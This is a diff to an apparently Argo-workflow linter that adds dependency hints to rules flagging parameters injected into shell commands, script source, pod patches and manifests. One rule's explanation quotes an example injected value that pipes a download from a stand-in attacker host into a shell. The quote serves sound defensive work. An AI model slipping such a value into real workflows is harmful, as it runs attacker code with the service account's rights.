@@ -10,7 +10,7 @@ from argoform.lint.context import Context
 from argoform.lint.finding import Problem
 from argoform.lint.manifest import Manifest
 from argoform.lint.practice.examples import template
-from argoform.lint.practice.facts import Body, Container, containers, defaults, listed, mapping, template_name, text
+from argoform.lint.practice.facts import Body, Container, containers, defaults, listed, mapping, template_name
 from argoform.lint.practice.flow import open_tags
 from argoform.lint.rule import rule
 
@@ -27,6 +27,7 @@ _INPUT = "inputs:\n  parameters:\n    - name: file\n"
     "AF055",
     severity="warning",
     title="No parameter is put into a command line of a shell",
+    needs=("command", "args"),
     why="Argo fills tags in before the shell reads the line. A value such as `; curl evil.example | sh` is then a "
     "command, run with the rights of the workflow's service account.",
     bad=template(
@@ -44,6 +45,8 @@ _INPUT = "inputs:\n  parameters:\n    - name: file\n"
 def shell(manifest: Manifest, context: Context) -> Iterator[Problem]:
     """Values from outside in what follows `-c` (or `-e`); arguments after it are safe, as are values known here."""
     for one in containers(manifest):
+        if id(one.body) in manifest.inventory.untagged:
+            continue
         for path, code in _code(one):
             found = open_tags(manifest, one.template, code)
             if found:
@@ -58,6 +61,7 @@ def shell(manifest: Manifest, context: Context) -> Iterator[Problem]:
     "AF056",
     severity="warning",
     title="No parameter is put into the source of a script",
+    needs=("source",),
     why="Argo fills tags in before the interpreter reads the source: a quote in the value ends the script's own "
     "string, "
     "and what follows is run with the rights of the workflow's service account.",
@@ -93,6 +97,7 @@ def source(manifest: Manifest, context: Context) -> Iterator[Problem]:
     "AF057",
     severity="warning",
     title="No parameter is put into a patch of the pod",
+    needs=("podSpecPatch",),
     why="`podSpecPatch` may change everything about a pod: a value with a quote or a line break of its own adds "
     "privileges, volumes of the node or another image.",
     bad=template(
@@ -110,8 +115,6 @@ def source(manifest: Manifest, context: Context) -> Iterator[Problem]:
 )
 def patch(manifest: Manifest, context: Context) -> Iterator[Problem]:
     """Patches of the spec, of the template defaults and of templates."""
-    if '"podSpecPatch"' not in text(manifest):
-        return
     base = manifest.spec_path
     places: list[tuple[str, Body]] = [(base, manifest.spec), (f"{base}.templateDefaults", defaults(manifest))]
     for path, body in (*places, *manifest.templates):
@@ -129,6 +132,7 @@ def patch(manifest: Manifest, context: Context) -> Iterator[Problem]:
     "AF058",
     severity="note",
     title="No parameter is put into a manifest unquoted",
+    needs=("manifest",),
     why="The manifest of a resource template is parsed after Argo has filled tags in: a value with a line break "
     "adds fields "
     "to the object, or a whole object after `---`. In double quotes, `toJson` keeps any value one string.",
